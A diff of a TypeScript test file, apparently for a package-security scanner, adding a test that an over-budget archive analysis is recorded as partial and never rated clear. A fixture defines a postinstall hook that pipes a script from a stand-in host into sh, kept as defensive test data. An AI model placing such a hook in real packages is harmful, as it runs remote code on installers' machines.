@@ -1,8 +1,10 @@
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { analyzeArchive, type AnalyzeOptions } from '../../shared/packages/analysis/index.js';
-import { AnalysisAbortedError, AnalysisPool, analyzeOffThread } from '../../shared/packages/analysis/pool.js';
+import { AnalysisAbortedError, AnalysisPool, AnalysisTimeoutError, analyzeOffThread } from '../../shared/packages/analysis/pool.js';
 import { buildTgz, npmTgz, tgzZeroBomb } from '../fixtures/archives/build.js';
+import { unfinishedAnalysis } from '../../shared/packages/audit.js';
+import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
 import { buildZip } from '../support/zip-writer.js';
 
 const PKG = JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } });
@@ -63,6 +65,38 @@ test('an archive that exceeds the thread heap cap is AnalysisAbortedError, and t
     }
     const small = npmTgz({ 'package.json': JSON.stringify({ name: 'ok', version: '1.0.0' }), 'i.js': '1\n' });
     assert.equal(await pool.analyze(small, tgz()), await analyzeArchive(small, tgz()));
+  } finally {
+    await pool.close();
+  }
+});
+
+test('an archive past its time budget is AnalysisTimeoutError (an AnalysisAbortedError: recorded PARTIAL), and the pool goes on with a new thread', async () => {
+  const pool = new AnalysisPool({ threads: 1, heapMb: 256, budgetMs: 5 });
+  try {
+    // 64 MiB of zeros to inflate and hash: far more than 5 ms on any machine.
+    try {
+      await pool.analyze(await tgzZeroBomb(64), tgz());
+      assert.unreachable('5 ms cannot read 64 MiB');
+    } catch (err) {
+      assert.instance(err, AnalysisTimeoutError);
+      assert.instance(err, AnalysisAbortedError);
+      assert.is((err as AnalysisTimeoutError).budgetMs, 5);
+      // What the audit records: PARTIAL, nothing counted as analysed, the finding says why.
+      const a = unfinishedAnalysis('demo-1.0.0.tgz', err as AnalysisTimeoutError, 256);
+      assert.is(a.analysisType, 'PARTIAL');
+      assert.is(a.fileCount, 0);
+      assert.equal(a.limitsHit, ['analysisTime']);
+      assert.equal(a.findings.map((f) => [f.ruleId, f.severity, f.file]), [['LIMIT-TIME-001', 'MEDIUM', 'demo-1.0.0.tgz']]);
+      assert.match(a.findings[0]!.message, /cut off at its 5 ms time budget/);
+      const verdict = packageVerdict(
+        reviewPackage({ registry: 'npm', name: 'demo', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'sha512:x', actual: 'sha512:x' }, advisories: { status: 'ok', advisories: [] } }),
+      );
+      assert.is.not(verdict.securityLevel, 'CLEAR', 'an unread archive is never CLEAR');
+    }
+    assert.is(pool.timeouts, 1);
+    const [, buf, opts] = (await samples())[1]!;
+    assert.equal(await pool.analyze(buf, opts, 0), await analyzeArchive(buf, opts), 'the next archive, without a budget, is analysed in full');
+    assert.is(pool.size, 1);
   } finally {
     await pool.close();
   }
